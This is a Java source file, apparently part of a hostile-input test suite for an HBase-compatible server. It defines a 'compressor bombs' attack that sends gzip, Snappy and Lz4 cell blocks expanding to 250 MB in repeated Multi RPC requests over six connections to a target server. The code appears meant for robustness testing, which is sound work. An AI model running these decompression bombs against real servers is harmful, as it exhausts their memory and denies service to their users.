package org.grampus.compat.suite.hostile;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.ByteBufUtil;
import io.netty.buffer.Unpooled;
import io.netty.buffer.UnpooledByteBufAllocator;
import java.io.IOException;
import java.util.List;
import org.apache.hadoop.hbase.shaded.protobuf.generated.ClientProtos.MultiRequest;
import org.grampus.compat.protocol.CellBlockCompressor;

/** Cell blocks that expand to 250 MB, gzip and block streams. */
final class CompressorBombs implements Attack {
  private static final int BYTES = 250_000_000;
  private static final int CONNECTIONS = 6;
  private static final List<String> CODECS =
      List.of(
          "org.apache.hadoop.io.compress.GzipCodec",
          "org.apache.hadoop.io.compress.SnappyCodec",
          "org.apache.hadoop.io.compress.Lz4Codec");

  @Override
  public String name() {
    return "compressor bombs";
  }

  private final byte[][] bombs = new byte[CODECS.size()][];

  @Override
  public void prepare(Victim victim) throws IOException {
    for (int i = 0; i < bombs.length; i++) {
      bombs[i] = bomb(CODECS.get(i));
    }
  }

  @Override
  public void run(Victim victim) throws Exception {
    byte[] param = MultiRequest.getDefaultInstance().toByteArray();
    for (int round = 0; !victim.isOver(); round++) {
      String codec = CODECS.get(round % bombs.length);
      byte[] bomb = bombs[round % bombs.length];
      try (Connections connections = new Connections()) {
        int[] address = {0};
        connections.open(CONNECTIONS, () -> victim.connect(1 + address[0]++ / 3, codec));
        connections.each(wire -> wire.send("Multi", param, bomb));
        connections.each(Wire::skipReply);
        victim.pause();
      }
    }
  }

  private static byte[] bomb(String codec) throws IOException {
    ByteBuf zeros = Unpooled.wrappedBuffer(new byte[BYTES]);
    ByteBuf packed =
        CellBlockCompressor.named(codec).compress(UnpooledByteBufAllocator.DEFAULT, zeros);
    try {
      return ByteBufUtil.getBytes(packed);
    } finally {
      packed.release();
    }
  }
}
